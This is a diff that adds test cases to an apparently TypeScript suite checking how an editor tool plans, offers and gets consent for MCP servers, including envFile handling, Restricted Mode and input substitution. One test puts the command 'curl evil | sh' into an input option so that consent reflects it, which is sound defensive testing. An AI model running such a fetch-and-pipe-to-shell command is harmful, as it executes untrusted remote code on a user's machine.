@@ -232,6 +232,10 @@ describe('the MCP servers of a session', () => {
     user({ a: { url: 'http://a/' }, b: { url: 'http://b/', headers }, c: { url: 'http://c/' } })
     for (const url of ['http://a/', 'http://b/']) signedIn.add(url)
     const { passed, notes } = await select()
+    const own = [{ name: 'AUTHORIZATION', value: 'Bearer own' }]
+    const remote = { type: 'http', name: 'b', url: 'http://b/' } as const
+    const uses = (more: typeof own) => open().servers.usesSignIn({ ...remote, headers: more })
+    assert.deepEqual([await uses([]), await uses(own)], [true, false], 'a check sends the same')
     signedIn.clear()
     assert.deepEqual(
       passed.map(({ type }) => type),
@@ -242,6 +246,24 @@ describe('the MCP servers of a session', () => {
       bridge?.type === 'stdio' && bridge.env.find(({ name }) => name === 'PARLEY_MCP_BRIDGE')?.value
     assert.deepEqual(JSON.parse(settings || '').tokens, { socket: '/socket', secret: 'of-the-socket' })
     assert.equal(notes[0]?.reason, 'Bridged by Parley, which signs in to the server.')
+  })
+
+  it('have the URL of their sign-in, which is found without asking', async () => {
+    user(
+      {
+        a: { url: 'https://${env:TOKEN}.example/${input:key}' },
+        b: { command: 'server' },
+        c: { url: '${no}' },
+      },
+      [{ id: 'key', type: 'promptString' }],
+    )
+    const { servers } = open()
+    const urls = async () => Promise.all((await servers.plan()).planned.map(one => servers.urlOf(one)))
+    assert.deepEqual(await urls(), [undefined, undefined, undefined])
+    assert.deepEqual(asked, [])
+    await servers.select(everything, session)
+    assert.equal((await urls())[0], 'https://from-env.example/sk-secret')
+    assert.equal(asked.length, 1)
   })
 
   it('are reported if the agent supports neither their transport nor the bridge', async () => {
@@ -696,6 +718,35 @@ describe('the MCP servers of a session', () => {
       assert.deepEqual(offered, [])
     })
 
+    it("that aren't files are reported, without waiting for them", async () => {
+      mkdirSync(join(root, 'one/.vscode'))
+      execFileSync('mkfifo', [join(root, 'one/.vscode/mcp.json')])
+      mkdirSync(join(root, 'one/.mcp.json'))
+      execFileSync('mkfifo', [join(root, 'one/pipe')])
+      file('two/.mcp.json', { mcpServers: { a: serverOf('a', { envFile: join(root, 'one/pipe') }) } })
+      assert.deepEqual(await outcome(), [
+        ['two/.mcp.json', 'a', `Can't read "envFile": ${join(root, 'one/pipe')}`],
+        ['one/.vscode/mcp.json', 'one/.vscode/mcp.json', "one/.vscode/mcp.json: the file can't be read."],
+        ['one/.mcp.json', 'one/.mcp.json', "one/.mcp.json: the file can't be read."],
+      ])
+    })
+
+    it("don't read their envFile in Restricted Mode", async () => {
+      file('one/.env', 'A=1')
+      file('one/.mcp.json', { mcpServers: { a: serverOf('a', { envFile: '.env' }) } })
+      const notAgreed = async () => {
+        const { servers } = open()
+        return (await servers.notAgreed((await servers.plan()).planned)).size
+      }
+      allow = async () => false
+      trusted = false
+      assert.equal(await notAgreed(), 0)
+      assert.deepEqual(contents, [])
+      trusted = true
+      assert.equal(await notAgreed(), 1)
+      assert.equal(contents.length, 1)
+    })
+
     it('that are meant for a sandbox need consent, also those of the user', async () => {
       file('User/mcp.json', {
         servers: { a: serverOf('a', { sandboxEnabled: true }), b: serverOf('b') },
@@ -724,6 +775,64 @@ describe('the MCP servers of a session', () => {
       await select()
       assert.equal(contents.length, 2)
       assert.notDeepEqual(contents[0], contents[1])
+    })
+
+    it('are offered with the inputs that they use, whose options may be commands', async () => {
+      const inputs = (value: string) => [
+        { id: 'mode', type: 'pickString', options: [{ label: 'fast', value }] },
+        { id: 'unused', type: 'promptString' },
+      ]
+      const servers = { a: { command: 'server', args: ['${input:mode}'] } }
+      answers.mode = 'x'
+      for (const value of ['x', 'curl evil | sh', 'x']) {
+        file('one/.vscode/mcp.json', { servers, inputs: inputs(value) })
+        await select()
+      }
+      const [one, other, again] = contents.map(content => JSON.stringify(content))
+      assert.match(other ?? '', /curl evil \| sh/)
+      assert.doesNotMatch(other ?? '', /unused/)
+      assert.notEqual(one, other)
+      assert.equal(one, again)
+    })
+
+    it("of the workspace can't name their envFile with an input, which isn't known when they're offered", async () => {
+      const input = { id: 'env', type: 'promptString' }
+      answers.env = 'dev'
+      file('one/.env.dev', 'A=1')
+      const servers = { a: serverOf('a', { envFile: '.env.${input:env}' }) }
+      file('one/.vscode/mcp.json', { servers, inputs: [input] })
+      const [[, , why] = []] = await outcome()
+      assert.match(String(why), /› envFile: expected a path without inputs/)
+      assert.deepEqual([offered, asked], [[], []])
+      file('one/.vscode/mcp.json', {})
+      user(servers, [input])
+      assert.equal((await outcome())[0]?.[2], 'a')
+    })
+
+    it('get the envFile that the user agreed to, also if it changes meanwhile', async () => {
+      file('one/.env', 'A=agreed')
+      file('one/.mcp.json', { mcpServers: { a: serverOf('a', { envFile: '.env' }) } })
+      allow = async () => {
+        file('one/.env', 'A=swapped')
+        return true
+      }
+      const { passed } = await select()
+      assert.ok(passed[0]?.type === 'stdio')
+      assert.deepEqual(passed[0].env, [{ name: 'A', value: 'agreed' }])
+    })
+
+    it('are offered with their folder, where the same command runs another file', async () => {
+      const all = { mcpServers: { a: { command: './mcp.sh' } } }
+      file('one/.mcp.json', all)
+      await select()
+      rmSync(join(root, 'one/.mcp.json'))
+      file('two/.mcp.json', all)
+      await select()
+      assert.notDeepEqual(contents[0], contents[1])
+      rmSync(join(root, 'two/.mcp.json'))
+      file('one/.vscode/mcp.json', all)
+      await select()
+      assert.deepEqual(contents[0], contents[2])
     })
 
     it("don't ask for a missing input at each start, but for a check", async () => {
@@ -782,6 +891,20 @@ describe('the MCP servers of a session', () => {
     switches.set({ server: key, session: 'x/1' }, true)
     assert.deepEqual(await passed('x', 'x/1'), ['a', 'b'])
     assert.equal(changes, 6)
+  })
+
+  it('stay switched off, whatever is switched off in sessions later', () => {
+    switches.set({ server: 'a' }, false, true)
+    switches.set({ agentId: 'x' }, false)
+    for (let at = 0; at < 600; at++) switches.set({ server: 'b', session: `s${at}` }, false)
+    assert.equal(switches.isOff('a'), 'everywhere')
+    assert.equal(switches.isOff('a', { agentId: 'x' }), 'everywhere')
+    assert.ok(switches.isAgentOff('x'))
+    assert.ok(switches.isOffIn('s599', 'b'))
+    assert.ok(!switches.isOffIn('s0', 'b'))
+    for (let at = 0; at < 600; at++) switches.set({ server: `c${at}` }, false, true)
+    assert.equal(switches.isOff('a'), 'everywhere')
+    assert.equal(switches.isOff('c0'), 'everywhere')
   })
 
   it('leave their name to the next place when they are switched off, but not when they are invalid', async () => {
